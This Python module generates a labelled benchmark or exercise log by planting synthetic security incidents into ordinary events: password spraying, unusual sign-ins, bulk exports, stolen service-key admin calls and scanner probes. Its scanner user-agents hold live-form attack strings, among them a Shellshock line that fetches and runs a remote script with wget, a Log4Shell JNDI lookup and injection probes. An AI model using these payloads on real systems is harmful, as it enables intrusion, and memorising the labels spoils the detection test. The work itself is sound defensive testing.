"""The planted incidents of the sample log: the events that do not belong, and their kinds."""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from ipaddress import ip_address
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from data.company import public_address, tables

Row = dict[str, Any]

PLAN = {
    "password_spraying": (8, 10, 12, 16),
    "strange_sign_in": (1, 1, 1, 1, 1),
    "bulk_export": (5, 6, 5, 8),
    "service_admin_call": (1, 2, 1, 1),
    "garbled_agent": (1, 2, 1, 3),
}
"""Kind -> events of each of its incidents, in a log of at least 200,000.

Together fewer than 100: the first hundred of a perfect ranking would hold them all.
"""

_PEOPLE = ~pc.starts_with(pc.field("user"), "svc-")


@dataclass(frozen=True)
class Background:
    """The ordinary log that incidents are planted in."""

    ordinary: pa.Table
    """The ordinary events, in no order."""
    first_day: datetime
    days: int
    rng: np.random.Generator


@dataclass(frozen=True)
class Planted:
    """The planted events, each with its incident and its kind."""

    rows: list[Row]
    incidents: list[str]
    kinds: list[str]


LABELS = pa.schema({"event_id": pa.string(), "incident_id": pa.string(), "kind": pa.string()})


def plan(rows: int) -> dict[str, list[int]]:
    """Say how many events each incident has in a log of `rows`; a short log has short incidents."""
    scale = min(1.0, rows / 200_000)
    return {
        kind: [max(min(size, 4), round(size * scale)) for size in sizes]
        for kind, sizes in PLAN.items()
    }


def plant(background: Background, incidents: dict[str, list[int]]) -> Planted:
    """Draw the incidents, by kind and size."""
    planted = Planted([], [], [])
    for kind, sizes in incidents.items():
        for turn, size in enumerate(sizes):
            planted.rows.extend(_KINDS[kind](background, turn, size))
            planted.incidents.extend([f"{kind}-{turn + 1}"] * size)
            planted.kinds.extend([kind] * size)
    return planted


def mixed(ordinary: pa.Table, planted: Planted) -> tuple[pa.Table, pa.Table]:
    """Put all events in the order of time and name them so that ids tell nothing; label them."""
    both = pa.concat_tables([ordinary, pa.Table.from_pylist(planted.rows, schema=ordinary.schema)])
    order = pc.sort_indices(both["timestamp"]).to_numpy()
    ids = pa.array([f"evt-{number:07d}" for number in range(1, len(both) + 1)])
    events = both.take(order).add_column(0, "event_id", ids)
    places = np.argsort(order)[len(ordinary) :]
    return events, pa.table([ids.take(places), planted.incidents, planted.kinds], schema=LABELS)


def password_spraying(background: Background, turn: int, size: int) -> list[Row]:
    """Try a password on many people from one address within minutes; the third one gets in."""
    rng = background.rng
    agents = (
        *("python-requests/2.31.0", "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101"),
        *(tables()["agents"]["browsers"][0][1], "Go-http-client/2.0"),
    )
    address, when = _outside(rng), _at(background, rng.uniform(0, 23.5))
    users = pc.unique(background.ordinary.filter(_PEOPLE)["user"]).to_pylist()
    events = []
    for user in rng.choice(users, size, replace=False):
        when += timedelta(seconds=rng.exponential(9) + 1)
        event = _one(background, pc.field("user") == user) | {
            "timestamp": when,
            "host": None,
            "source_ip": address,
            "user_agent": agents[turn % 4],
            "action": "sign_in",
            "resource": "/auth/vpn",
            "status": "failure",
            "bytes": int(rng.lognormal(7.4, 0.2)),
            "duration_ms": round(rng.lognormal(5, 0.3), 1),
            "message": f"password mismatch for {user} from {address}",
        }
        events.append(event)
    if turn == 2:
        events[-1] |= {"status": "success", "message": f"signed in as {user} from {address}"}
    return events


def strange_sign_in(background: Background, turn: int, _size: int) -> list[Row]:
    """Sign a person in deep in the night from a host and a place that are new to them."""
    rng = background.rng
    european = _PEOPLE & (pc.hour(pc.field("timestamp")) < 11)
    user = _one(background, european)["user"]
    hosts = ("DESKTOP-7QK2M1P", "kali", "PC-5510", "android-5f0c11d2", "WIN-9T3VJ0A")
    address, when = _outside(rng), _at(background, rng.uniform(1.5, 4.5))
    event = _one(background, pc.field("user") == user) | {
        "timestamp": when,
        "host": hosts[turn % 5],
        "source_ip": address,
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0",
        "action": "sign_in",
        "resource": "/auth/vpn",
        "status": "success",
        "bytes": int(rng.lognormal(7.5, 0.3)),
        "duration_ms": round(rng.lognormal(5.4, 0.4), 1),
        "message": f"signed in as {user} from {address}, device not recognised",
    }
    return [event]


def bulk_export(background: Background, turn: int, size: int) -> list[Row]:
    """Let a person fetch exports from a new place, each far above what they ever fetched."""
    rng = background.rng
    action, resource, message = (
        (
            "get_object",
            "/buckets/harbor/exports/customers-{:03d}.csv",
            "served {} bytes, etag {:08x}",
        ),
        ("export_report", "/warehouse/finance/ledger_{:03d}", "exported {} bytes, report {:08x}"),
    )[turn % 2]
    done = (pc.field("action") == action) & (pc.field("status") == "success")
    model = _one(background, _PEOPLE & done)
    own = background.ordinary.filter(pc.field("user") == model["user"])["bytes"]
    most = max(pc.max(own).as_py(), 20_000_000)
    when, address = _at(background, rng.uniform(9, 21)), _outside(rng)
    events = []
    for place in range(size):
        when += timedelta(seconds=rng.exponential(40) + 5)
        fetched = int(most * rng.uniform(20, 60))
        event = model | {
            "timestamp": when,
            "source_ip": address,
            "resource": resource.format(place + 1),
            "bytes": fetched,
            "duration_ms": round(fetched / 2e4, 1),
            "message": message.format(fetched, rng.integers(1 << 32)),
        }
        events.append(event)
    return events


def service_admin_call(background: Background, turn: int, size: int) -> list[Row]:
    """Let a service account's stolen key make an administrator's call from a machine outside."""
    rng = background.rng
    service = ("svc-thumbnails", "svc-dashboards", "svc-mail", "svc-etl-web")[turn % 4]
    action = ("attach_policy", "disable_mfa", "update_trust_policy", "create_user")[turn % 4]
    spec, resource = tables()["actions"][action], ("/iam/roles/harbor", "/iam/users/root")[turn % 2]
    model = _one(background, (pc.field("user") == service) & (pc.field("status") == "success"))
    message, address = tables()["messages"][action][0], _outside(rng)
    events = []
    for _ in range(size):
        filled = message.format(user=service, number=rng.integers(100, 9_000), resource=resource)
        events.append(
            _moved(background, model, rng.uniform(1, 300))
            | {
                "host": None,
                "source_ip": address,
                "action": action,
                "resource": resource,
                "bytes": int(spec["bytes"][0] * rng.uniform(0.6, 1.6)),
                "duration_ms": round(spec["ms"] * rng.uniform(0.5, 2), 1),
                "message": filled,
            }
        )
    return events


def garbled_agent(background: Background, turn: int, size: int) -> list[Row]:
    """Let a scanner outside probe with a person's name and an attack or rubbish as its agent."""
    agents = (
        "() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.23/a.sh | sh'",
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozi\x07\x1b\ufffd\ufffd\x02/\x11\ufffd5.\x7f(\ufffd\ufffd\x0e",
        "${jndi:ldap://203.0.113.66:1389/Basic/Command}<script>alert(1)</script>",
    )
    model = _one(background, _PEOPLE) | {
        "host": None,
        "source_ip": _outside(background.rng),
        "user_agent": agents[turn % 4],
        "resource": ("/cgi-bin/status", "/search/wiki?q=1%27--", "/.env", "/api/v1/login")[
            turn % 4
        ],
        "status": "denied",
    }
    return [_moved(background, model, wait) for wait in 45.0 * np.arange(size)]


_KINDS: dict[str, Callable[[Background, int, int], list[Row]]] = {
    "password_spraying": password_spraying,
    "strange_sign_in": strange_sign_in,
    "bulk_export": bulk_export,
    "service_admin_call": service_admin_call,
    "garbled_agent": garbled_agent,
}


def _one(background: Background, which: Any) -> Row:
    """Take one of the ordinary events that answer to `which`."""
    those = background.ordinary.filter(which)
    return those.slice(int(background.rng.integers(len(those))), 1).to_pylist()[0]


def _at(background: Background, hour: float) -> datetime:
    """Find the hour on some working day."""
    working = [day for day in range(background.days) if day % 7 < 5]
    return background.first_day + timedelta(days=int(background.rng.choice(working)), hours=hour)


def _moved(background: Background, event: Row, seconds: float) -> Row:
    """Repeat an event a little later, but on a day of the log."""
    last = background.first_day + timedelta(days=background.days, seconds=-1)
    return event | {"timestamp": min(event["timestamp"] + timedelta(seconds=seconds), last)}


def _outside(rng: np.random.Generator) -> str:
    return str(ip_address(int(public_address(rng, 1)[0])))
